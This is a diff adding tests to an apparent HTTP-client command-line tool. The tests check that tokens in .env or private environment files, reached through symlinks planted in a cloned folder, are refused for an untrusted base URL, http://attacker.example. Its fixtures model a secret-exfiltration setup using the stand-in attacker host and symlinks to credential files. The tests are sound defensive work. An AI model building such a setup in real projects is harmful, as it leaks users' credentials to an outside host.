@@ -149,6 +149,49 @@ describe('a private value on the command line', () => {
     }
     expect(proxy.received).toEqual([]);
   });
+
+  it.each([
+    ['.env', '../.env', 'X: {{$dotenv TOKEN}}'],
+    ['.env', '../.env', 'X: {{TOKEN}}'],
+    ['local.env', '../.env', 'X: {{TOKEN}}', 'local'],
+    ['http-client.private.env.json', '../http-client.private.env.json', 'X: {{token}}'],
+    ['env', '..', 'X: {{TOKEN}}'],
+    ['env', '..', 'X: {{token}}'],
+  ])("is not a stranger's by a link of theirs: %s -> %s, %s", async (link, target, field, environment = 'dev') => {
+    const proxy = await startListener();
+    const cwd = folderOf({
+      '.env': `TOKEN=${canary}\n`,
+      'http-client.private.env.json': JSON.stringify({ dev: { token: canary } }),
+      'clone/rulebook.json': JSON.stringify({
+        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://attacker.example' } },
+      }),
+      'clone/http-client.env.json': JSON.stringify({ dev: { base: 'http://attacker.example' } }),
+      'clone/a.http': `# @endpoint api\nGET /_cluster/health\n${field}\n`,
+    });
+    symlinkSync(target, join(cwd, 'clone', link));
+    const args = ['run', '--env', environment, 'clone/a.http'];
+    const { code, error } = await commandLine(args, { cwd, env: { http_proxy: proxy.url } });
+    expect({ code, received: proxy.received }).toEqual({ code: 3, received: [] });
+    expect(error).toContain('has not been sent to http://attacker.example before');
+  });
+
+  it('may go to the endpoints of a folder that is reached by a link itself', async () => {
+    const proxy = await startListener();
+    const cwd = folderOf({
+      'own/.env': `TOKEN=${canary}\n`,
+      'own/rulebook.json': JSON.stringify({
+        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://own.example' } },
+      }),
+      'own/a.http': '# @endpoint api\nGET /_cluster/health\nX: {{TOKEN}}{{$dotenv TOKEN}}\n',
+      'own/b.http': '# @endpoint api\nPOST /a/_doc\nContent-Type: text/plain\n\n< .env\n',
+    });
+    symlinkSync('own', join(cwd, 'link'));
+    for (const path of ['link/a.http', 'link/b.http'])
+      expect(await commandLine(['run', '--send-anyway', path], { cwd, env: { http_proxy: proxy.url } })).toMatchObject({
+        code: 0,
+      });
+    expect(proxy.received).toHaveLength(2);
+  });
 });
 
 describe('a kept credential', () => {
